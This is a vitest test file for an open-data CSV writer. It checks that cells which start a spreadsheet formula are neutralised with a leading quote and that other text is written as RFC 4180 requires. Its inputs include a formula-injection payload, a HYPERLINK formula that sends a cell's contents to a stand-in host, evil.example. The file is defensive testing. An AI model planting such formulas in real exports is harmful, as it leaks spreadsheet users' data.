import { describe, expect, it } from 'vitest';
import { csvField, parseCsv, toCsv } from '../../../../../functions/application/open-data/csv.js';

// Issue 22, defect 4: formula injection. Every CSV of the project is written by `toCsv`, whose
// cells all go through `csvField`.

describe('a CSV cell', () => {
  it.each([
    [
      '=HYPERLINK("https://evil.example/?"&A1,"Voir")',
      `"'=HYPERLINK(""https://evil.example/?""&A1,""Voir"")"`,
    ],
    ['+212 5 35 00 00 00', `"'+212 5 35 00 00 00"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['\0=1+1', `"'\0=1+1"`],
  ])('that starts a formula (%j) is written behind a single quote, quoted', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it.each([
    ['Association Sefrou Avenir', 'Association Sefrou Avenir'],
    ['جمعية صفرو المستقبل', 'جمعية صفرو المستقبل'],
    ['Association "Avenir", Sefrou', '"Association ""Avenir"", Sefrou"'],
    ['a = b - c', 'a = b - c'],
    ['', ''],
  ])('that starts no formula (%j) is written as RFC 4180 asks', (text, written) => {
    expect(csvField(text)).toBe(written);
  });

  it.each([
    ['Sefrou;=HYPERLINK("https://evil.example")', `"Sefrou;'=HYPERLINK(""https://evil.example"")"`],
    ['=1;@2', `"'=1;'@2"`],
    ['Sefrou; -Nord', 'Sefrou; -Nord'],
    ['cofunder-a:100;cofunder-b:200', 'cofunder-a:100;cofunder-b:200'],
  ])(
    'that holds a semicolon, the separator of French-locale spreadsheets (%j), is written %s',
    (text, written) => {
      expect(csvField(text)).toBe(written);
    },
  );

  it('holding a number or nothing is written as is: numbers come from the code, not from people', () => {
    expect([csvField(-5), csvField(3_000_000), csvField(null)]).toEqual(['-5', '3000000', '']);
  });
});

describe('a CSV file', () => {
  it('neutralises every text cell of every row, header included', () => {
    // Act
    const text = toCsv(
      ['name', '=total'],
      [
        ['=1+1', 2],
        ['Sefrou', null],
      ],
    );
    // Assess
    expect(text).toBe(`name,"'=total"\r\n"'=1+1",2\r\nSefrou,\r\n`);
    expect(parseCsv(text)).toEqual([
      ['name', "'=total"],
      ["'=1+1", '2'],
      ['Sefrou', ''],
    ]);
  });
});
